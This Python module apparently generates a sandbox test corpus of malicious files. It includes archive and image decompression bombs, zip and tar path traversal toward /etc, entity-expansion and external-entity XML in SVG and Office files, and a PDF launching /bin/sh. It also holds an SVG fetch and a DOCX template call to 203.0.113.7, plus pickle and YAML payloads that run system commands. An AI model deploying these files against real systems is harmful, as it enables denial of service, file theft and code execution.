"""Makes files that want to harm whoever opens them. Sent to the sandbox as the program of a call: it stands alone."""
# ruff: noqa: E501 - files are data

import gzip
import io
import json
import lzma
import sqlite3
import struct
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

Maker = Callable[[], bytes]


# ---- archives


def zipped(members: dict[str, bytes], level: int = 9) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def overlapping(copies: int) -> bytes:
    """Each entry of the directory is the same packed data: a kilobyte that claims gigabytes."""
    once = zipped({"0": bytes(20_000_000)}, 1)
    directory = once.index(b"PK\1\2")
    record, end = once[directory : once.index(b"PK\5\6")], once[once.index(b"PK\5\6") :]
    records = record * copies
    tail = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, copies, copies, len(records), directory, 0)
    return once[:directory] + records + tail + end[22:]


def zip64_lies() -> bytes:
    once = bytearray(zipped({"a": b"x" * 100}))
    at = once.index(b"PK\1\2")
    extra = struct.pack("<HHQQ", 1, 16, 2**60, 2**60)
    once[at + 20 : at + 28] = b"\xff" * 8
    once[at + 30 : at + 32] = struct.pack("<H", len(extra))
    name_ends = at + 46 + 1
    end = once.index(b"PK\5\6")
    made = once[:name_ends] + extra + once[name_ends:end] + once[end:]
    end += len(extra)
    made[end + 12 : end + 16] = struct.pack("<I", end - at)
    return bytes(made)


def linked_zip() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        link = zipfile.ZipInfo("link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("link/x", "through")
    return file.getvalue()


def named_zip(name: str) -> Maker:
    return lambda: zipped({name: b"x"})


def many_members() -> bytes:
    return zipped({str(n): b"" for n in range(10_001)}, 0)


def nested_zips() -> bytes:
    made = zipped({"zeros": bytes(5_000_000)})
    for _ in range(5):
        made = zipped({f"{n}.zip": made for n in range(10)})
    return made


def tarred(*members: tuple[str, bytes, str, int]) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, kind, link, size in members:
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.size = kind, link, size
            archive.addfile(info, io.BytesIO(bytes(size)))
    return file.getvalue()


def packed_tar() -> bytes:
    """A megabyte that unpacks to more than a gigabyte: gzip members one behind the other are one file."""
    info = tarfile.TarInfo("a")
    info.size = 60_000_000 * 20
    return gzip.compress(info.tobuf()) + gzip.compress(bytes(60_000_000), 1) * 20


def sparse_tar() -> bytes:
    info = tarfile.TarInfo("a")
    info.size = 1 << 45
    return info.tobuf(tarfile.GNU_FORMAT)


def pax_tar() -> bytes:
    info = tarfile.TarInfo("a")
    info.pax_headers = {"comment": "x" * 50_000_000, "mtime": "nan", "uid": "-1", "size": "-5"}
    return info.tobuf(tarfile.PAX_FORMAT) + bytes(1024)


# ---- pictures


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, extra: bytes = b"", data: bytes | None = None) -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    pixels = zlib.compress(bytes((1 + 3 * width) * height)) if data is None else data
    return b"\x89PNG\r\n\x1a\n" + header + extra + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def text_bomb() -> bytes:
    return png(2, 2, chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(60_000_000), 1)))


def profile_bomb() -> bytes:
    return png(2, 2, chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(60_000_000), 1)))


def tiff(width: int, height: int, kind: int = 1) -> bytes:
    rows = (
        (256, width),
        (257, height),
        (258, 8),
        (259, kind),
        (262, 1),
        (273, 8),
        (277, 1),
        (278, height),
        (279, 0xFFFFFFF0),
    )
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in rows)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(rows)) + entries + bytes(4)


def gif(frames: int) -> bytes:
    frame = b"\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0"
    return b"GIF89a" + struct.pack("<HH", 9_000, 9_000) + b"\x80\0\0\0\0\0\xff\xff\xff" + frame * frames + b"\x3b"


def webp() -> bytes:
    header = b"VP8X" + struct.pack("<I", 10) + b"\x10\0\0\0" + (16_777_215).to_bytes(3, "little") * 2
    return b"RIFF" + struct.pack("<I", len(header) + 4) + b"WEBP" + header


# ---- drawings and XML

LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "' + "ha" * 100 + '">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)  # fmt: skip
QUADRATIC = '<!DOCTYPE x [<!ENTITY a "' + "x" * 50_000 + '">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY i SYSTEM "file:///etc/passwd">]>'


def svg(body: str, front: str = "") -> Maker:
    text = f'<?xml version="1.0"?>{front}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{body}</svg>'
    return text.encode


def xml_deep() -> bytes:
    return b"<a>" * 300_000 + b"</a>" * 300_000


# ---- PDF


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    made, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % at for at in places)
    return (
        made
        + table
        + b"trailer\n<</Root 1 0 R /Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, len(made))
    )


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Contents 4 0 R>>"


def stream(data: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    return b"<</Length %d/Filter%s>>stream\n%s\nendstream" % (len(data), filters, data)


def acting_pdf() -> bytes:
    launch = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>/AA<</WC<</S/URI/URI(http://203.0.113.7/)>>>>>>"
    return pdf(launch, PAGES, PAGE, stream(zlib.compress(b"0 0 50 50 re f" + b" " * 500)))


def flate_pdf() -> bytes:
    return pdf(CATALOG, PAGES, PAGE, stream(zlib.compress(b"0 0 50 50 re f " * 5_000_000)))


def flate_of_flate_pdf() -> bytes:
    data = bytes(60_000_000)
    for _ in range(3):
        data = zlib.compress(data)
    return pdf(CATALOG, PAGES, PAGE, stream(data, b"[/FlateDecode/FlateDecode/FlateDecode]"))


def object_stream_pdf() -> bytes:
    inner = zlib.compress(b"2 0 3 100 " + b"x" * 60_000_000)
    body = b"<</Type/ObjStm/N 999999999/First 10/Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (
        len(inner),
        inner,
    )
    return pdf(CATALOG, body)


def million_pages_pdf() -> bytes:
    return pdf(CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 1000000>>", PAGE, stream(zlib.compress(b"")))


def circular_pdf() -> bytes:
    return pdf(CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>")


def deep_pdf() -> bytes:
    return pdf(CATALOG, PAGES, PAGE, b"[" * 300_000 + b"]" * 300_000)


def circular_xref_pdf() -> bytes:
    made = pdf(CATALOG, PAGES, PAGE, stream(zlib.compress(b"")))
    return made.replace(b"/Size 5", b"/Size 5/Prev %d" % made.rindex(b"xref\n0"))


def huge_page_pdf() -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 2000000000 2000000000]/UserUnit 75000/Contents 4 0 R>>"
    return pdf(CATALOG, PAGES, page, stream(zlib.compress(b"0 0 99 99 re f" + b" " * 500)))


def two_in_one() -> bytes:
    return pdf(CATALOG, PAGES, PAGE, stream(zlib.compress(b"0 0 50 50 re f"))) + zipped({"x.txt": b"hidden" * 100})


# ---- office

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/{part}" ContentType="{kind}"/></Types>'
RELATED = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="{part}"/>{more}</Relationships>'
OUTWARD = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.7/evil.dotm" TargetMode="External"/><Relationship Id="r8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def docx(front: str, body: str, more: dict[str, bytes] | None = None) -> bytes:
    main = f'<?xml version="1.0"?>{front}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:body></w:document>'
    return zipped(
        {
            "[Content_Types].xml": TYPES.format(part="word/document.xml", kind=WORD_TYPE).encode(),
            "_rels/.rels": RELATED.format(part="word/document.xml", more="").encode(),
            "word/document.xml": main.encode(),
            **(more or {}),
        }
    )


def real_xlsx() -> dict[str, bytes]:
    import openpyxl  # noqa: PLC0415 - there is none where this module is only read

    book = openpyxl.Workbook()
    for n in range(20):
        book.active.append([f"text {n}", n])
    file = io.BytesIO()
    book.save(file)
    with zipfile.ZipFile(file) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def xlsx(part: str, change: Callable[[bytes], bytes]) -> Maker:
    def make() -> bytes:
        parts = real_xlsx()
        return zipped({**parts, part: change(parts.get(part, b""))})

    return make


def million_strings(_: bytes) -> bytes:
    return (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1000000" uniqueCount="1000000">'
        + b"<si><t>text</t></si>" * 1_000_000
        + b"</sst>"
    )


def million_rows(_: bytes) -> bytes:
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(1, 60_000))
    return (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + rows
        + b"</sheetData></worksheet>"
    )


def far_cell(_: bytes) -> bytes:
    return b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'


def with_entities(front: str) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        head, _, rest = data.partition(b"?>") if data.startswith(b"<?xml") else (b"", b"", data)
        return (
            head
            + (b"?>" if head else b"")
            + front.encode()
            + rest.replace(b"<t>text 0</t>", b"<t>&i;</t>").replace(b"<t>text 1</t>", b"<t>&a;</t>")
        )

    return change


# ---- text and tables


def csv_wide() -> bytes:
    return b",".join(b"c%d" % n for n in range(200_000)) + b"\n" + b"1," * 199_999 + b"1\n"


def parquet_lies() -> bytes:
    return b"PAR1" + b"\x15\x04" + b"\xff" * 3_000 + struct.pack("<I", 3_000) + b"PAR1"


def npy(header: bytes, data: bytes = b"") -> bytes:
    return b"\x93NUMPY\1\0" + len(header).to_bytes(2, "little") + header + data


def pickled_array() -> bytes:
    """An array of one object, which ends the process that unpickles it."""
    return npy(b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}", b"cos\n_exit\n(I0\ntR.")


def endless_view() -> bytes:
    """A database with a view that never comes to an end."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "a")
        base = sqlite3.connect(path)
        base.execute("CREATE TABLE t (x)")
        base.execute(
            "CREATE VIEW v AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c"
        )
        base.commit()
        base.close()
        return path.read_bytes()


FILES: dict[str, Maker] = {
    "overlapping.zip": lambda: overlapping(200),
    "overlapping-few.zip": lambda: overlapping(2),
    "zip64.zip": zip64_lies,
    "linked.zip": linked_zip,
    "up.zip": named_zip("../../etc/cron.d/x"),
    "root.zip": named_zip("/etc/passwd"),
    "drive.zip": named_zip("C:\\windows\\x"),
    "many.zip": many_members,
    "nested.zip": nested_zips,
    "devices.tar": lambda: tarred(("a", b"0", "", 3), ("disk", b"4", "", 0)),
    "through.tar": lambda: tarred(("l", b"2", "/etc", 0), ("l/passwd", b"0", "", 3)),
    "hard.tar": lambda: tarred(("l", b"1", "../../etc/passwd", 0)),
    "up.tar": lambda: tarred(("a/../../x", b"0", "", 3)),
    "sparse.tar": sparse_tar,
    "pax.tar": pax_tar,
    "bomb.tar.gz": packed_tar,
    "bomb.xz": lambda: lzma.compress(bytes(20_000_000), preset=0) * 60,
    "large.png": lambda: png(50_000, 50_000, data=zlib.compress(bytes(1_000))),
    "text.png": text_bomb,
    "profile.png": profile_bomb,
    "unpacks.png": lambda: png(10, 10, data=zlib.compress(bytes(60_000_000), 1)),
    "strips.tif": lambda: tiff(60_000, 60_000),
    "packbits.tiff": lambda: tiff(9_000, 9_000, 32773),
    "frames.gif": lambda: gif(50_000),
    "large.webp": webp,
    "laughs.svg": svg("<text>&i;</text>", LAUGHS.replace("x [", "svg [")),
    "quadratic.svg": svg("<text>" + "&a;" * 5_000 + "</text>", QUADRATIC),
    "outside.svg": svg("<text>&i;</text>", OUTSIDE),
    "script.svg": svg('<script>fetch("http://203.0.113.7")</script><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="file:///etc/passwd"/></foreignObject><image href="file:///etc/passwd"/><rect width="5" height="5" onload="x()"/>'),
    "laughs.xml": (LAUGHS + "<x>&i;</x>").encode,
    "deep.xml": xml_deep,
    "launch.pdf": acting_pdf,
    "flate.pdf": flate_pdf,
    "flates.pdf": flate_of_flate_pdf,
    "objects.pdf": object_stream_pdf,
    "pages.pdf": million_pages_pdf,
    "circle.pdf": circular_pdf,
    "deep.pdf": deep_pdf,
    "xref.pdf": circular_xref_pdf,
    "huge.pdf": huge_page_pdf,
    "two.pdf": two_in_one,
    "two.zip": two_in_one,
    "laughs.docx": lambda: docx(LAUGHS, "&i;"),
    "outside.docx": lambda: docx(OUTSIDE, "&i;"),
    "outward.docx": lambda: docx("", "text" * 50, {"word/_rels/document.xml.rels": OUTWARD.encode()}),
    "media.docx": lambda: docx("", "text" * 50, {"word/media/zeros.bin": bytes(60_000_000)}),
    "strings.xlsx": xlsx("xl/sharedStrings.xml", million_strings),
    "rows.xlsx": xlsx("xl/worksheets/sheet1.xml", million_rows),
    "far.xlsx": xlsx("xl/worksheets/sheet1.xml", far_cell),
    "laughs.xlsx": xlsx("xl/sharedStrings.xml", with_entities(LAUGHS)),
    "outside.xlsx": xlsx("xl/sharedStrings.xml", with_entities(OUTSIDE)),
    "deep.json": lambda: b"[" * 1_000_000,
    "digits.json": lambda: b"1" * 5_000_000,
    "keys.json": lambda: json.dumps({str(n): n for n in range(100_000)}).encode(),
    "twice.json": lambda: b'{"a": 1, "a": 2}',
    "matched.json": lambda: json.dumps({"x": "a" * 60 + "!"}).encode(),
    "circular.json": lambda: b'{"x": 1}',
    "growing.json": lambda: json.dumps([1] * 40).encode(),
    "wide.csv": csv_wide,
    "field.csv": lambda: b'a,b\n"' + b"x" * 50_000_000 + b'",1\n',
    "quotes.csv": lambda: b"a,b\n" + b'"' * 5_000_001 + b"\n",
    "lies.parquet": parquet_lies,
    "deep.html": lambda: b"<div>" * 200_000,
    "tags.html": lambda: b"<!--" * 2_000_000 + b"<p " * 500_000,
    "line.txt": lambda: b"x" * 80_000_000,
    "deep.py": lambda: b"(" * 5_000 + b")" * 5_000,
    "runs.py": lambda: b"import os\nos.kill(os.getppid(), 9)\nraise SystemExit\n",
    "laughs.yaml": lambda: b"a: &a [x,x]\n" + b"".join(b"k%d: &k%d [*k%d,*k%d]\n" % (n, n, n - 1, n - 1) for n in range(1, 99)).replace(b"*k0", b"*a"),
    "deep.yaml": lambda: b"[" * 1_000_000,
    "tag.yml": lambda: b"a: !!python/object/apply:os.system [reboot]\n",
    "deep.toml": lambda: b"a = " + b"[" * 500_000,
    "quotes.jsonc": lambda: b'"' + b'\\"' * 5_000_000,
    "slashes.jsonc": lambda: b"/* " * 3_000_000,
    "pickle.npy": pickled_array,
    "lies.npy": lambda: npy(b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000000000,)}"),
    "boxes.mp4": lambda: b"\0\0\0\x08ftyp" + b"\0\0\0\x08free" * 5_000_000,
    "view.db": endless_view,
    "braces.rtf": lambda: b"{\\rtf1" + b"{\\*" * 5_000_000,
    "font.ttf": lambda: b"\0\1\0\0\xff\xff\0\0\0\0\0\0" + b"glyf\0\0\0\0\x7f\xff\xff\xff\x7f\xff\xff\xff" * 50_000,
}  # fmt: skip


def make(names: list[str]) -> None:
    """Writes the files of these names."""
    for name in names:
        Path("files", name).write_bytes(FILES[name]())
